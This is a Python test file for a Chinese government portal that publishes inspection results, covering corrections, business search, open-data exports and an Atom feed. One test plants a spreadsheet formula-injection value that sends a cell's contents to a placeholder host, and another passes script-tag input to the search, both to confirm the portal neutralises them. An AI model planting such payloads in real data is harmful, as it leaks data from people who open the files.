"""一公开: results frozen at publication, corrections as new versions, business look-up, the business and
task pages, open data and the Atom feed."""

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest

from shuangsuiji.common.errors import Forbidden, WrongState
from shuangsuiji.directory import search
from shuangsuiji.directory.models import Entity
from shuangsuiji.directory.search import SearchError, check, normalise
from shuangsuiji.draws import services as draw_services
from shuangsuiji.portal.testing import TIMES, published_visit
from shuangsuiji.results import services
from shuangsuiji.results.models import Publication
from shuangsuiji.results.public import snapshot


@pytest.fixture
def published(personas):
    return published_visit(personas)


def test_publishing_freezes_only_public_fields_and_a_correction_is_a_new_version(personas, published):
    visit, parts = published
    lead = next(p for p in parts if p.department_id == personas.lead_dept.pk)
    first = Publication.objects.get(part=lead)
    assert first.version == 1 and first.has_problem and first.summary == "发现问题待后续处理"
    assert first.random and first.draw_id == visit.draw_id and first.entity_id == visit.entity_id
    assert "13912345678" not in json.dumps(first.lines, ensure_ascii=False)
    with pytest.raises(services.ResultError, match="更正理由"):
        services.reopen_for_correction(personas.lead_admin, lead, "  ")
    with pytest.raises(Forbidden, match="管理员"):
        services.reopen_for_correction(personas.inspector, lead, "误选")
    services.reopen_for_correction(personas.lead_admin, lead, "误选结果用语")
    assert Publication.objects.current().get(part=lead) == first  # stays public while being corrected
    results = {r.item_id: {"codes": ["no_problem"]} for r in lead.results.all()}
    lead.refresh_from_db()
    services.save_part(personas.inspector, lead, revision=lead.revision, results=results, submit=True, **TIMES)
    services.review(personas.lead_admin, lead, approve=True)
    services.publish(personas.lead_admin, lead)
    first.refresh_from_db()
    second = Publication.objects.current().get(part=lead)
    assert first.corrected_at is not None and second.version == 2
    assert second.summary == "未发现问题" and second.correction_reason == "误选结果用语"
    services.reopen_for_correction(personas.lead_admin, lead, "再次更正")
    with pytest.raises(WrongState, match="只有已公开"):
        services.reopen_for_correction(personas.lead_admin, lead, "已在更正中")


def test_a_targeted_check_is_never_shown_as_random(personas, published):
    visit, parts = published
    visit.task.kind = "targeted"
    assert snapshot(parts[0], {})["random"] is False
    assert snapshot(parts[0], {})["draw_id"] is None


def test_lookup_by_two_characters_or_part_of_the_code_and_bad_input(personas, published, client):
    visit, _ = published
    entity = visit.entity
    entity.name = "定陶区鸿运烧烤店"
    entity.save()
    search.refresh([entity.pk])
    body = client.get("/public/businesses/", {"q": "烧烤"}).content.decode()
    assert entity.uscc in body and "找到 1 户" in body
    body = client.get("/public/businesses/", {"q": entity.uscc[2:12].lower()}).content.decode()
    assert entity.uscc in body
    full_width = "".join(chr(ord(c) + 0xFEE0) for c in entity.uscc[8:])
    assert entity.uscc in client.get("/public/businesses/", {"q": full_width}).content.decode()
    for bad, words in (("食", "至少输入 2 个字"), ("食" * 51, "不超过 50 个字"), ("\x00\u200b", "至少输入")):
        response = client.get("/public/businesses/", {"q": bad})
        assert response.status_code == 200 and words in response.content.decode()
    for q in ("％＿'\"<script>", "%", "_" * 10, "\U0001d41a\U0001d41b"):
        assert client.get("/public/businesses/", {"q": q}).status_code == 200
    assert client.get("/public/businesses/?q=%ED%A0%80%ED%A0%80x").status_code == 200  # a lone surrogate
    far = client.get("/public/businesses/", {"q": entity.name[1:3], "page": "999999"}).content.decode()
    assert "没有第 999999 页" in far
    assert client.get("/public/businesses/", {"q": entity.name[1:3], "page": "9" * 40}).status_code == 200
    assert client.get("/public/businesses/91000000000000000X/").status_code == 404
    with pytest.raises(SearchError):
        check(" ")
    assert normalise("ＡＢ\u3000cd\t") == "AB cd"


def test_the_business_page_shows_every_departments_published_result(personas, published, client):
    visit, parts = published
    page = client.get(f"/public/businesses/{visit.entity.uscc}/").content.decode()
    assert page.count('data-testid="publication"') == 2
    assert personas.lead_dept.name in page and personas.partner_dept.name in page
    assert "发现问题待后续处理" in page and "责令改正（处置中）" in page
    assert f"/public/tasks/{visit.task.number}/" in page
    assert "13912345678" not in page and "防鼠" not in page  # findings stay inside


def test_the_business_and_task_pages_query_a_bounded_number_of_times(personas, published, client,
                                                                    django_assert_max_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from shuangsuiji.portal.testing import publish_visit

    visit, _ = published
    with django_assert_max_num_queries(8):
        assert client.get(f"/public/businesses/{visit.entity.uscc}/").status_code == 200
    with django_assert_max_num_queries(8):
        assert client.get("/public/businesses/", {"q": visit.entity.name[1:3]}).status_code == 200

    def count(path):
        with CaptureQueriesContext(connection) as queries:
            assert client.get(path).status_code == 200
        return len(queries)

    pages = [f"/public/tasks/{visit.task.number}/", "/public/results/", f"/public/businesses/{visit.entity.uscc}/"]
    before = [count(p) for p in pages]
    for other in visit.task.visits.exclude(pk=visit.pk).order_by("number")[:3]:
        publish_visit(personas, other, codes=("pending",), findings="x")  # six more result lines, with follow-ups
    assert Publication.objects.count() == 8
    assert [count(p) for p in pages] == before  # no query per line
    assert max(before) <= 12


def test_the_task_page_counts_and_lists_results(personas, published, client):
    visit, _ = published
    page = client.get(f"/public/tasks/{visit.task.number}/").content.decode()
    assert "已公开 1 户的检查结果，其中发现问题 1 户" in page
    assert page.count('data-testid="publication"') == 2


def test_open_data_csv_and_json_neutralise_formulas(personas, published, client):
    visit, _ = published
    Entity.objects.filter(pk=visit.entity_id).update(name='=HYPERLINK("http://x.example/?"&A1)')
    Publication.objects.update()  # the name is read live from the directory
    year = visit.task.year
    response = client.get(f"/public/data/results/{year}/all.csv")
    raw = b"".join(response.streaming_content).decode("utf-8")
    assert raw.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(raw[1:])))
    assert rows[0][:3] == ["统一社会信用代码", "名称", "检查实施机关"] and len(rows) == 3
    assert all(r[1].startswith("'=") for r in rows[1:])
    data = json.loads(b"".join(client.get(f"/public/data/results/{year}/all.json").streaming_content))
    assert len(data["rows"]) == 2 and {c["key"] for c in data["columns"]} >= {"uscc", "result", "followup"}
    lead = json.loads(b"".join(client.get(f"/public/data/results/{year}/{personas.lead_dept.code}.json")
                               .streaming_content))
    assert [r["department"] for r in lead["rows"]] == [personas.lead_dept.name]
    tasks = json.loads(b"".join(client.get(f"/public/data/tasks/{year}/all.json").streaming_content))
    assert tasks["rows"][0]["number"] == visit.task.number and tasks["rows"][0]["checked"] == 1
    for bad in ("/public/data/secrets/2026/all.csv", "/public/data/results/2026/nobody.csv",
                "/public/data/results/2026/all.xlsx", "/public/data/results/1/all.csv"):
        assert client.get(bad).status_code == 404


def test_the_atom_feed_announces_results(personas, published, client):
    visit, _ = published
    response = client.get("/public/feed.atom")
    assert response["Content-Type"].startswith("application/atom+xml")
    root = ET.fromstring(response.content)
    titles = [e.findtext("{http://www.w3.org/2005/Atom}title") for e in root.iter("{http://www.w3.org/2005/Atom}entry")]
    assert any(t.startswith(f"检查结果公开：{visit.task.number}") for t in titles)
    assert any(t.startswith("抽取结果公布：") or t.startswith("抽取承诺：") for t in titles)


def test_the_ticket_check_gives_cut_offs_only_where_strata_are_public(personas, client):
    from shuangsuiji.draws.models import DrawnEntity
    from shuangsuiji.portal.tickets import check_data, check_one

    visit, _ = published_visit(personas)  # a 风险分类联查: stratified by credit class, so blinded
    draw = visit.draw
    assert check_data(draw) is None  # revealed, not yet published
    draw_services.publish(personas.lead_admin, draw)
    draw.refresh_from_db()
    data = check_data(draw)
    assert draw.blinded and data["strata"] == [] and data["seed"] == draw.seed
    assert visit.entity.uscc in data["tickets"] and "cutoff" not in json.dumps(data)
    one = check_one(DrawnEntity.objects.get(draw=draw, entity=visit.entity), blinded=True)
    assert one["strata"] == [] and list(one["tickets"]) == [visit.entity.uscc]
    page = client.get(f"/public/businesses/{visit.entity.uscc}/").content.decode()
    assert '"blinded": true' in page and '"cutoff"' not in page


def test_a_renamed_business_is_found_by_its_new_name_once_the_index_is_refreshed(personas, published):
    from django.db import connection

    visit, _ = published
    Entity.objects.filter(pk=visit.entity_id).update(name="定陶区祥和羊汤馆")
    found = lambda: [e.uscc for e in search.page("羊汤", 1).rows]  # noqa: E731
    if connection.vendor == "postgresql":
        assert found() == []  # the side table still holds the old name
        assert search.refresh() == 1 and search.refresh() == 0  # only what changed is written
    else:
        assert search.refresh() == 0  # SQLite scans the directory itself
    assert found() == [visit.entity.uscc]
